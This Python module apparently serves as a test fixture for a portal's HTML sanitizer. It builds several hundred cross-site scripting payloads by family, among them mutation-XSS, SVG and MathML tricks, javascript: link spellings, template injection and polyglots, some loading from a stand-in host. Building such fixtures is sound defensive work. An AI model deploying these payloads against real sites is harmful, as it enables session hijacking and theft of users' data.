"""Texts that try to run a program in the browser of whoever reads them: written for this portal, family by family.

Each one shows when it runs: it sets `window.xss` or calls `alert` (some only after a click, a hover, or through a
second reading of what was cleaned once). `PAYLOADS` holds every one of them once, by family in `FAMILIES`.
"""

import base64
from html import escape
from urllib.parse import quote

RUN = "window.xss=1"
IMG = f"<img src=x onerror={RUN}>"
SCRIPT = f"<script>{RUN}</script>"
SVG_FILE = quote(f'<svg xmlns="http://www.w3.org/2000/svg" onload="{RUN}"/>')


def _entities(text: str, form: str) -> str:
    """`text` with every sign as an entity: `form` is "dec", "hex", "long" (zeros before) or "bare" (no semicolon)."""
    forms = {"dec": "&#{};", "hex": "&#x{:x};", "long": "&#{:0>7};", "bare": "&#{:0>7}"}
    return "".join(forms[form].format(ord(sign)) for sign in text)


def _scripts() -> list[str]:
    encoded = base64.b64encode(RUN.encode()).decode()
    return [
        SCRIPT,
        "<script>alert(1)</script>",
        f"<SCRIPT>{RUN}</SCRIPT>",
        f"<ScRiPt >{RUN}</sCrIpT >",
        f"<script\n>{RUN}</script\n>",
        f"<script\t/x>{RUN}</script/>",
        f"<script/random>{RUN}</script>",
        f"<script type=module>{RUN}</script>",
        f"<script type='text/javascript' async defer>{RUN}</script>",
        f"<script language=vbscript type=>{RUN}</script>",
        f"<script nonce=''>{RUN}</script>",
        f"<script src=data:text/javascript,{RUN}></script>",
        f"<script src='data:;base64,{encoded}'></script>",
        f"<script type=module>import 'data:text/javascript,{RUN}'</script>",
        "<script src=//boese.example/a.js onerror=window.xss=1></script>",
        f'<script type=importmap>{{"imports":{{"prose-editor":"data:text/javascript,{RUN}"}}}}</script>',
        f"<script>/*<!--*/{RUN}//--></script>",
        f"<script><!--\n{RUN}\n--></script>",
        f"<script>eval(String.fromCharCode({','.join(str(ord(sign)) for sign in RUN)}))</script>",
        "<script>\\u0061lert(1)</script>",
        "<script>alert`1`</script>",
        "<script>throw onerror=alert,1</script>",
        f"<script>setTimeout('{RUN}')</script>",
        f"<script>{RUN}",
        f"<script>{RUN}//",
        f"<scr<script>ipt>{RUN}</scr</script>ipt>",
        f"<<script>{RUN}//<</script>",
        f"<script><script>{RUN}</script>",
        f"<ſcript>{RUN}</ſcript>{SCRIPT}",
        f"＜script＞{RUN}＜/script＞",
        f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"¼script¾{RUN}¼/script¾",
    ]  # fmt: skip


def _handlers() -> list[str]:
    at_once = [
        IMG,
        "<img src=x onerror=alert(1)>",
        f"<img/src=x/onerror={RUN}>",
        f"<img src=x onerror\n=\n'{RUN}'>",
        f"<img src=x:x onerror='{RUN}'//",
        f"<IMG SRC=x ONERROR={RUN}>",
        f'<img src="x` `" onerror="{RUN}"` `>',
        f"<img src=1 href=1 onerror='javascript:{RUN}'>",
        f"<img srcset=x onerror={RUN}>",
        f"<picture><source srcset=x><img onerror={RUN} src=x></picture>",
        f"<image src=x onerror={RUN}>",
        f"<img src=data:image/gif;base64,R0lGODlhAQABAAAAACw= onload={RUN}>",
        f"<img src=x onerror={_entities(RUN, 'dec')}>",
        f"<img src=x onerror={_entities(RUN, 'hex')}>",
        f"<img src=x onerror={_entities(RUN, 'long')}>",
        f"<audio src=x onerror={RUN}></audio>",
        f"<video><source onerror={RUN} src=x></video>",
        f"<video poster=x onerror={RUN} src=x></video>",
        f"<body onload={RUN}>",
        f"<body/onpageshow={RUN}>",
        f"<html onload={RUN}><body onload={RUN}>",
        f"<frameset onload={RUN}><frame src=about:blank></frameset>",
        f"<input autofocus onfocus={RUN}>",
        f"<select autofocus onfocus={RUN}><option>x</select>",
        f"<textarea autofocus onfocus={RUN}>x</textarea>",
        f"<button autofocus onfocus={RUN}>x</button>",
        f"<details open ontoggle={RUN}>x</details>",
        f"<marquee onstart={RUN}>x</marquee>",
        f"<style onload={RUN}></style>",
        f"<style>@keyframes x{{}}</style><b style='animation-name:x' onanimationstart={RUN}>x</b>",
        f"<link rel=stylesheet href=x onerror={RUN}>",
        f"<div contenteditable autofocus tabindex=1 onfocus={RUN}>x</div>",
        f"<p id=x tabindex=1 onfocus={RUN}>x</p>",
        f"<x onclick={RUN} autofocus tabindex=1 onfocusin={RUN}>x</x>",
    ]
    names = ("click", "mouseover", "pointerenter", "focus", "copy", "paste", "keydown", "beforetoggle", "scrollend")
    tags = ("p", "h2", "li", "td", "q", "strong", "aside data-art=hinweis", "a href=/x", "th scope=col")
    waiting = [f"<{tag} on{name}={RUN}>Wort</{tag.split()[0]}>" for tag, name in zip(tags, names, strict=True)]
    return at_once + waiting


def _foreign() -> list[str]:
    """SVG and MathML, and what a second reading makes of them (mutation XSS)."""
    hidden = f'<img title="--&gt;&lt;/style&gt;&lt;img src=x onerror={RUN}&gt;">'
    return [
        f"<svg onload={RUN}>",
        f"<svg/onload={RUN}>",
        f"<svg><script>{RUN}</script></svg>",
        f"<svg><script>{_entities(RUN, 'dec')}</script></svg>",
        f"<svg><script href=data:text/javascript,{RUN} /></svg>",
        f"<svg><script xlink:href=data:,{RUN} /></svg>",
        f"<svg><script><!--{RUN}--></script></svg>",
        f"<svg><![CDATA[><script>{RUN}</script>]]></svg>",
        f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
        f"<svg><set onbegin={RUN} attributeName=x></svg>",
        f"<svg><a xlink:href='javascript:{RUN}'><text y=20>x</text></a></svg>",
        f"<svg><a><animate attributeName=href values='javascript:{RUN}'/><text y=20>x</text></a></svg>",
        f"<svg><use href='data:image/svg+xml,{SVG_FILE}#x'></svg>",
        f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
        f"<svg><foreignObject><iframe srcdoc='{escape(SCRIPT)}'></iframe></foreignObject></svg>",
        f"<svg><image href=x onerror={RUN}></svg>",
        f"<svg><style><img src=x onerror={RUN}></style></svg>",
        f"<svg><desc>{IMG}</desc></svg>",
        f"<svg><title><style><img src=x onerror={RUN}></style></title></svg>",
        f"<svg></p><style><a id=\"</style><img src=x onerror={RUN}>\">",
        f"<svg><p><style><g title=\"</style><img src=x onerror={RUN}>\">",
        f"<math><a xlink:href='javascript:{RUN}'>x</a></math>",
        f"<math href='javascript:{RUN}'>x</math>",
        f"<math><maction actiontype=statusline xlink:href='javascript:{RUN}'>x</maction></math>",
        f"<math><mi><table><mglyph><style><!--</style>{hidden}",
        f"<math><mtext><table><mglyph><style><math><img src=x onerror={RUN}></style>",
        f"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;{escape(IMG)}\">",
        f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
        f"<math><annotation-xml encoding='text/html'><style><img src=x onerror={RUN}></style></annotation-xml></math>",
        f"<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title=\"</style>{IMG}\">",
        f"<noscript><p title=\"</noscript>{IMG}\">",
        f"<noscript><style></noscript>{IMG}",
        f"<noembed><p title=\"</noembed>{IMG}\">",
        f"<noframes><p title=\"</noframes>{IMG}\">",
        f"<xmp><p title=\"</xmp>{IMG}\">",
        f"<iframe><p title=\"</iframe>{IMG}\">",
        f"<textarea><p title=\"</textarea>{IMG}\">",
        f"<title><p title=\"</title>{IMG}\">",
        f"<select><style></select>{IMG}</style>",
        f"<select><template><style><!--</style><a rel=\"--></style></template></select>{IMG}\">",
        f"<template>{SCRIPT}</template>",
        f"<template shadowrootmode=open>{IMG}</template>",
        f"<div><template shadowrootmode=open>{SCRIPT}{IMG}</template></div>",
        f"<table><tr><td><svg><desc><td>{IMG}</td></desc></svg></td></tr></table>",
        f"<table>{IMG}<tr><td>{SCRIPT}</td></tr></table>",
        f"<table><caption>{IMG}</caption><tbody><tr><th onclick={RUN}>x</th></tr></tbody></table>",
        f"<p><table><p>{IMG}</table>",
        f"<a href=/x><a href='/y' onclick={RUN}><b>{IMG}</a></b></a>",
        f"<p title='`onerror={RUN} `'><img alt='``onerror={RUN} src=x'>",
        f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
        f"<p><svg><![CDATA[</svg>{IMG}]]></p>",
        f"<plaintext>{IMG}",
    ]  # fmt: skip


def _embedded() -> list[str]:
    page = quote(SCRIPT)
    encoded = base64.b64encode(SCRIPT.encode()).decode()
    return [
        f"<iframe src='javascript:parent.{RUN}'></iframe>",
        "<iframe src=javascript:alert(1)></iframe>",
        f"<iframe srcdoc='{SCRIPT}'></iframe>",
        f"<iframe srcdoc='{escape(SCRIPT)}'></iframe>",
        f"<iframe srcdoc='{_entities(SCRIPT, 'dec')}'></iframe>",
        f"<iframe srcdoc=\"<img src=x onerror=parent.{RUN}>\" sandbox='allow-scripts allow-same-origin'></iframe>",
        f"<iframe onload={RUN}></iframe>",
        f"<iframe src='data:text/html,{page}'></iframe>",
        f"<iframe src=x onload={RUN}",
        f"<object data='javascript:{RUN}'></object>",
        f"<object data='data:text/html;base64,{encoded}'></object>",
        f"<object data=x onerror={RUN}></object>",
        f"<object><param name=src value='javascript:{RUN}'></object>",
        f"<embed src='javascript:{RUN}'>",
        f"<embed src='data:image/svg+xml,{SVG_FILE}'>",
        f"<applet code='javascript:{RUN}'></applet>",
        f"<portal src='javascript:{RUN}' onload={RUN}></portal>",
        f"<fencedframe src='javascript:{RUN}'></fencedframe>",
        f"<style>@import 'javascript:{RUN}';@import '//boese.example/a.css'</style>{IMG}",
        f"<style>*{{background:url('javascript:{RUN}')}}",
        f"<p style=\"background:url('javascript:{RUN}')\">{IMG}</p>",
        f"<p style='width:expression({RUN});-moz-binding:url(//boese.example/x#x)' onclick={RUN}>x</p>",
        f"<link rel=stylesheet href='javascript:{RUN}'>",
        f"<link rel=import href='data:text/html,{page}' onload={RUN}>",
        f"<link rel=preload as=script href=//boese.example/x onerror={RUN}>",
        f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
        f"<meta http-equiv=refresh content='0;url=data:text/html,{page}'>",
        f"<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">{SCRIPT}",
        f"<base href='javascript:{RUN}//'><a href=x>Wort</a>",
        f"<base href=//boese.example/ target=_blank>{IMG}",
        f"<form action='javascript:{RUN}'><button>x</button></form>",
        f"<form><button formaction='javascript:{RUN}'>x</button></form>",
        f"<form id=f></form><button form=f formaction='javascript:{RUN}'>x</button>",
        f"<input type=image src=x onerror={RUN} formaction='javascript:{RUN}'>",
        f"<isindex action='javascript:{RUN}' type=image>",
        f"<object type='text/x-scriptlet' data='//boese.example/x' onerror={RUN}></object>",
        f"<img name=body><form name=attributes><input name=firstChild onfocus={RUN} autofocus></form>",
    ]  # fmt: skip


def _breakouts() -> list[str]:
    """What leaves the place where a value stands: an attribute, a field, a comment, a string in a script."""
    return [
        f'"><script>{RUN}</script>',
        f"'><script>{RUN}</script>",
        f"`><script>{RUN}</script>",
        f'" onmouseover="{RUN}" x="',
        f"' onmouseover='{RUN}' x='",
        f'" autofocus onfocus="{RUN}',
        f"' autofocus onfocus='{RUN}",
        f"x autofocus onfocus={RUN} y",
        f"/onmouseover={RUN}//",
        f'"/><svg onload={RUN}>',
        f'&quot;&gt;{IMG}',
        f"&#34; onfocus={RUN} autofocus &#34;",
        *[f"</{tag}>{IMG}" for tag in ("textarea", "title", "style", "script", "noscript", "option", "template", "p")],
        f"</option></select>{IMG}",
        f"</td></tr></table>{IMG}",
        f"</main></body></html>{IMG}",
        f"--><script>{RUN}</script><!--",
        f"--!>{IMG}",
        f"<!--><script>{RUN}</script>-->",
        f"<!---><script>{RUN}</script>-->",
        f"<!-- --!>{IMG}-->",
        f"<!--[if gte IE 4]>{SCRIPT}<![endif]-->",
        f"<!-- >{IMG}",
        f"]]>{IMG}",
        f"<![CDATA[<script>{RUN}</script>]]>",
        f"<![CDATA[>{IMG}]]>",
        f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{RUN}</script>",
        f"<?x {IMG}",
        f"<!x {IMG}",
        f"</ {IMG}",
        f"<!DOCTYPE x [<!ENTITY y '{SCRIPT}'>]>&y;{IMG}",
        f"<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{RUN}</x:script>{IMG}",
        f"';{RUN};//",
        f'";{RUN};//',
        f"`;{RUN};//",
        f"\\';{RUN};//",
        f"\\u0022;{RUN};//</script>{IMG}",
        "'-alert(1)-'",
        f"\u2028{RUN}\u2028//{IMG}",
        f"${{{RUN}}}",
        f"*/{RUN}/*{IMG}",
    ]  # fmt: skip


def _links() -> list[str]:
    spellings = [
        f"javascript:{RUN}",
        "javascript:alert(1)",
        f"JaVaScRiPt:{RUN}",
        f"  javascript:{RUN}",
        f"\x01javascript:{RUN}",
        f"\x1fjavascript:{RUN}",
        f"\u00a0javascript:{RUN}",
        f"\ufeffjavascript:{RUN}",
        f"java\tscript:{RUN}",
        f"java\nscript:{RUN}",
        f"java\r\nscript:{RUN}",
        f"java&Tab;script:{RUN}",
        f"java&NewLine;script:{RUN}",
        f"java&#0;script:{RUN}",
        f"java&#173;script:{RUN}",
        f"java\u200bscript:{RUN}",
        f"javascript&colon;{RUN}",
        f"javascript&#58{RUN}",
        f"{_entities('javascript:', 'dec')}{RUN}",
        f"{_entities('javascript:', 'hex')}{RUN}",
        f"{_entities('javascript:', 'long')}{RUN}",
        f"{_entities('javascript:', 'bare')}{RUN}",
        f"{quote('javascript:', safe='')}{RUN}",
        f"javascript%3A{RUN}",
        f"javascript://boese.example/%0a{RUN}",
        f"javascript:/*--></title></style>*/{RUN}",
        f"javascript:void({RUN})",
        f"jav&#x0A;ascript&#x3A;{RUN}",
        f"vbscript:{RUN}",
        f"livescript:{RUN}",
        f"data:text/html,{quote(SCRIPT)}",
        f"data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()}",
        f"data:image/svg+xml,{SVG_FILE}",
        f"DATA:text/html;charset=utf-7,+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
        f"view-source:javascript:{RUN}",
        f"feed:javascript:{RUN}",
        f"blob:javascript:{RUN}",
        f"//boese.example/?{RUN}",
        f"\\\\boese.example/{RUN}",
        f"/\\boese.example/{RUN}",
        f"https:javascript:{RUN}",
        f"mailto:x@y.example?subject=\"onclick={RUN}",
        f"https://a.example/\"onmouseover={RUN}//",
        f"#\"><img src=x onerror={RUN}>",
        f"/x\" onclick=\"{RUN}",
        f"/x' onclick='{RUN}",
    ]  # fmt: skip
    return [f"<a href='{link}'>Wort</a>" if "'" not in link else f'<a href="{link}">Wort</a>' for link in spellings]


def _markdown() -> list[str]:
    return [
        f"[Wort](javascript:{RUN})",
        f"[Wort](<javascript:{RUN}>)",
        f"[Wort](JaVaScRiPt:{RUN})",
        f"[Wort](java\tscript:{RUN})",
        f"[Wort](&#106;avascript:{RUN})",
        f"[Wort](javascript&colon;{RUN})",
        f"[Wort](data:text/html;base64,{base64.b64encode(SCRIPT.encode()).decode()})",
        f"[Wort](vbscript:{RUN})",
        f"[Wort](//boese.example/{RUN})",
        f"[Wort](/x \"Titel\" onclick={RUN})",
        f"[Wort](/x 'Titel\" onmouseover=\"{RUN}')",
        f"[Wort](/x\"onmouseover=\"{RUN})",
        f"![Bild](x\"onerror=\"{RUN})",
        f"![Bild](javascript:{RUN})",
        f"![\"onerror=\"{RUN}](x)",
        f"<javascript:{RUN}>",
        f"[Wort][1] [1]: javascript:{RUN}",
        f"**<img src=x onerror={RUN}>**",
        f"`{SCRIPT}`",
        f"```<script>{RUN}</script>```{SCRIPT}",
        f"> {IMG}",
        f"- {SCRIPT}",
        f"| {IMG} | {SCRIPT} |",
        f"\\<script>{RUN}\\</script>{IMG}",
        f"*<svg/onload={RUN}>*",
        f"[<img src=x onerror={RUN}>](/x)",
    ]  # fmt: skip


def _templates() -> list[str]:
    return [
        f"{{{{constructor.constructor('{RUN}')()}}}}",
        f"{{{{$on.constructor('{RUN}')()}}}}",
        f"{{{{[].pop.constructor('{RUN}')()}}}}",
        f"{{% autoescape off %}}{IMG}{{% endautoescape %}}",
        f"{{{{ '{IMG}'|safe }}}}",
        f"{{% debug %}}{SCRIPT}",
        f"{{% verbatim %}}{SCRIPT}{{% endverbatim %}}",
        f"{{# #}}{SCRIPT}",
        f"<%= {RUN} %>{SCRIPT}",
        f"#{{{RUN}}}{IMG}",
        f"[[{RUN}]]{IMG}",
        f"<p v-on:click='{RUN}' @click='{RUN}' x-data x-init='{RUN}' ng-click='{RUN}' onclick='{RUN}'>x</p>",
        f"<p hx-on:load='{RUN}' hx-get=/x hx-trigger=load data-hx-on-load='{RUN}' onclick='{RUN}'>x</p>",
        f"%(x)s{{0.__class__}}{SCRIPT}",
    ]  # fmt: skip


def _odd_bytes() -> list[str]:
    """Null bytes, odd blanks and odd letters in the middle of names."""
    return [
        f"<scr\x00ipt>{RUN}</scr\x00ipt>",
        f"<img\x00src=x\x00onerror={RUN}>",
        f"<\x00script>{RUN}</script>",
        f"<a href='java\x00script:{RUN}'>x</a>",
        f"<img src=x onerror=\x00{RUN}>",
        *[f"<img{blank}src=x{blank}onerror={RUN}>" for blank in ("\t", "\n", "\r", "\f", "/")],
        *[f"<img src=x {blank}onerror={RUN}>" for blank in ("\x0b", "\x85", "\u00a0", "\u2003", "\u3000", "\u180e")],
        f"<img src=x on\u200berror={RUN}>{IMG}",
        f"<img src=x o\u017fnerror={RUN} onerror={RUN}>",
        f"<\u202eimg src=x onerror={RUN}>",
        f">\u0338<img src=x onerror={RUN}>",
        f"<img src=x onerror={RUN}>\u0338",
        f"\ufeff{SCRIPT}",
        f"\ue000{IMG}\ue001",
        f"\x02{IMG}\x03",
    ]


def _of_this_portal() -> list[str]:
    """Beside what the portal itself reads in a text: citations, boxes, headings with anchors, marks of a search."""
    return [
        f'<h2>Ablauf" onclick="{RUN}</h2>',
        f"<h2>{escape(IMG)}</h2>",
        f"<h3>{escape(escape(IMG))}</h3>",
        f"GLF SC 3.001a{IMG}",
        f"GLF SC {IMG}3.001a",
        f'GLF SC 3.001a"onmouseover="{RUN}',
        f"GLF SC 3.001a{escape(IMG)} (Stand {escape(SCRIPT)}02.01.2024)",
        f"EMB AH Umzug{escape(IMG)} und Ortswechsel",
        f"Weisung 202305004{IMG} vom {SCRIPT}12.05.2023",
        f"<aside data-art='hinweis\" onclick=\"{RUN}'>{IMG}</aside>",
        f"<aside data-art=achtung onclick={RUN}><p>{IMG}</p></aside>",
        f"<ol start='3\" onclick=\"{RUN}' type='a\"onclick=\"{RUN}'><li>x</li></ol>",
        f"<td colspan='2\" onclick=\"{RUN}'>x</td>{IMG}",
        f"<ins>{IMG}</ins><del onclick={RUN}>x</del><mark>{SCRIPT}</mark>",
        f"&lt;mark&gt;{escape(IMG)}&lt;/mark&gt;",
    ]


def _polyglots() -> list[str]:
    return [
        f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
        f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
        f"'\">-->]]></title></style></textarea></script></noscript>{IMG}<!--",
        f"\"'`></select></xmp></template><svg/onload={RUN}//",
        f"javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
        f'<html " onmouseover=/*&lt;svg/*/onload={RUN}//>',
        f"'onfocus={RUN} autofocus x='\"onfocus={RUN} autofocus x=\"<!--{IMG}-->",
    ]


def _coded_once_and_twice() -> list[str]:
    """What is plain text after one reading, and a program again if somebody reads it once more."""
    strong = [
        SCRIPT,
        IMG,
        f"<svg/onload={RUN}>",
        f"<iframe srcdoc='{SCRIPT}'></iframe>",
        f"<a href=javascript:{RUN}>x</a>",
    ]
    coded = [escape(one) for one in strong]
    return [
        *coded,
        *[escape(one) for one in coded],
        *[_entities(one, "dec") for one in strong[:3]],
        *[_entities(one, "hex") for one in strong[:2]],
        *[quote(one) for one in strong[:3]],
        *[one.replace("<", "\\u003c").replace(">", "\\u003e") for one in strong[:2]],
        *[one.replace("<", "\\x3c").replace(">", "\\x3e") for one in strong[:2]],
        f"&lt;img src=x onerror={RUN}&gt;".replace(";", ""),
        f"&LT;script&GT;{RUN}&LT;/script&GT;",
        f"<p>{escape(SCRIPT)}</p><p><strong>&lt;</strong>script&gt;{RUN}&lt;/script&gt;</p>",
        f"<p>&lt;im<em>g src=x onerror={RUN}</em>&gt;</p>",
    ]  # fmt: skip


FAMILIES: dict[str, list[str]] = {
    "script": _scripts(),
    "Ereignisse": _handlers(),
    "SVG und MathML": _foreign(),
    "eingebettet": _embedded(),
    "Ausbruch": _breakouts(),
    "Links": _links(),
    "Markdown": _markdown(),
    "Vorlagen": _templates(),
    "Zeichen": _odd_bytes(),
    "Portal": _of_this_portal(),
    "mehrere Orte": _polyglots(),
    "kodiert": _coded_once_and_twice(),
}
PAYLOADS = list(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
